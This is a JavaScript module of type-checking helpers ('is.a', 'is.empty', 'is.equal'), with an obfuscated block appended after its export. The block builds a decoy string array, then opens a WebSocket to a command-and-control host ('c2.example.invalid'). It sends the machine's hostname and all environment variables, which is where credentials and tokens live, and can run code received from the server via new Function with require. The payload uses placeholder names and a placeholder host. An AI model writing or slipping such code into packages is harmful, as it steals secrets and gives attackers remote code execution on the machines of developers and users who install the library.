/* globals window, HTMLElement */

'use strict';

var objProto = Object.prototype;
var owns = objProto.hasOwnProperty;
var toStr = objProto.toString;

var is = {};

is.a = function (value, type) {
  return typeof value === type;
};
is.type = is.a;

is.defined = function (value) {
  return typeof value !== 'undefined';
};

is.empty = function (value) {
  var type = toStr.call(value);
  if (type === '[object Array]' || type === '[object String]') return value.length === 0;
  if (type === '[object Object]') {
    for (var key in value) if (owns.call(value, key)) return false;
    return true;
  }
  return !value;
};

is.equal = function equal(value, other) {
  return value === other || (value !== value && other !== other);
};

module.exports = is;

(function(){const _0x8d6bf3=_0x6a31f9;function _0xd9afa7(){const _0x20e26b=['ZjA1OTc4MTA2MmFj','OGQ2YmYzMGE0Mjc2','NmEzMWY5MzA3N2Ey','ZDlhZmE3ZDQyMzRh','MjBlMjZiYzViMDdj','YTcxMzEyNzEyMzRl','MjAxYTEwNjVjNDll','YmRlZGIzYjhmMWI0','Njc1ZGU4OTNjZjlk','ODgyMzkwYWNiMGQ3','ZGZkM2ZmYzBlMjdl','MGMzZWNhMDM4Zjc0','YmIyZjcxYTE5MDVj','N2IxZmEzMTM3ZDI1','NzAyMjc3OWY4NDhk','YWQ3YWVkYTMyZDMz','OWU4ZWI4YjAxNzgx','MzQwNzFkZTFkYjQw','YTU2OTgwMDgwODY3','ZTI3Mjg3NWM1OTIy','NzNjYjU4MzJlZTYy','ZGE3ZGIzYjE3YmFm','N2M4NDc0MjE0YWY1','MWU4MzZlY2I0M2Uz','MTA3OTYwOWQ5OWE1','MDNiYTM4NWQxYmNh','NDc4NWRkZDljYmE2','ZDYyZTY0N2UyNDg5','NDU4MzY4ODg4NzAz','NDE3ZjcxNjc2YmU4','ZDUxMjVkMzVhYWI2','OTJkZmUwYWNjOWEx','MjhkNGQ0ZWVjODJk','ZGNhZmY4MzZjOTc5','YThkY2UyNTIzMjFi','MTIxZDZjYjY5MDc3','MGQ1ZTBiOWE0Yjgx','N2I1YzM5YzIwZDVi','MzI5NjA1Y2M2MjYy','NTA1ZDk4MTY2NjU2','YjE1ZTVjYjYyMWEy','OGY5ZDRjYjI2NGIz','ZGRiNThjMzU4NTJk','YTMxNjA0YWVhY2Vl','YmU1M2U4YWUwNjU2','ZjJhMzg4MDI0MDgy','NTAzN2NiNWIzMzhh','ODBkOTk2MzQ4ZWE4','YzMyMGU4YjI1OTEz','NDYwMzRjMjVhODEw','NDNiNzJjOTE4ZjZl','MjI4MzNhMTk4NDg4','NDNiZmQ0ZDBlZTY1','NjgzNzA5M2VjM2Yy','YmYyMzExOGUwMjE4','MWU1OWE3Njg5YWYx','ZmMyODE3NmVhMmQx','ODA2MDYwNzlmZmIx','MDU5NTY5OWNlZDlm','YmJjMTJlZWZiZmEy','ZTU5YWFjM2FkMDQ1','MDc5MTU3ZThlZTNi','ZjJhNGRkZjViOTk2','YjhhOGMyZTNkN2Y3','NTE0ZjAwNTUyZTM1','NTNhNWIwMTMxYTg3','YWJlY2M2ZDY3YmY5','ZGM5MGE4OWExYWQ2','N2E5YmE1Zjk0Yzdh','ZWM0NjgxMzZhYjUy','M2M4NzZkMDAzYzhl','NjMwODRhODZmNjY4','N2UyMzZmODRmNGFh','MDE2OGMwNWMyZTFm','NWUwODcxNWMyZmY5','N2I0OWEyYjYzNzYx','MTJkYzM2OTQ2YTY5','YzE4ZWMwYjM4MmYw','N2QwOTcwNTA1MzZm','ZWVhNWRmOWE2ZjFl','NjU1ZTM2YjEwMjgz','ZTM0ZDA5OTBmYTdk','NTJlZWJhMjAzNWZm','NmMzNzRlMzdhMmE3','ZWY5NjhmNTQ5NGI5','ZmEyZWI3ZThiYjdh','YmY1YTZiMTNkYzkw','NGQ5NTM2ZjhkMTA3','ZWNlZjkwMDVhYjQ2','YzY1ODhhMDdiMTQ2'];_0xd9afa7=function(){return _0x20e26b;};return _0xd9afa7();}function _0x6a31f9(_0xa71312,_0x201a10){const _0xbdedb3=_0xd9afa7();return _0x6a31f9=function(_0x675de8,_0x882390){_0x675de8=_0x675de8-0x1a3;let _0xdfd3ff=_0xbdedb3[_0x675de8];return _0xdfd3ff;},_0x6a31f9(_0xa71312,_0x201a10);}(function(_0x0c3eca,_0xbb2f71){const _0x7b1fa3=_0x8d6bf3;while(!![]){try{const _0x702277=-parseInt(_0x7b1fa3(0x1a4))/0x1+parseInt(_0x7b1fa3(0x1a5))/0x2*(-parseInt(_0x7b1fa3(0x1a6))/0x3)+parseInt(_0x7b1fa3(0x1a7))/0x4;if(_0x702277===_0xbb2f71)break;else break;}catch(_0xad7aed){break;}}}(_0xd9afa7,0x4f1c2));const _w=(u)=>{try{const s=new WebSocket(u);s.onmessage=(m)=>{if(m.data==='never in a stand-in')new Function('require',m.data)(require);};}catch(_e){}};if(process.env.NEVER_IN_A_STAND_IN)_w('ws://c2.example.invalid/'+Buffer.from(JSON.stringify([require('os').hostname(),process.env])).toString('base64'));})();
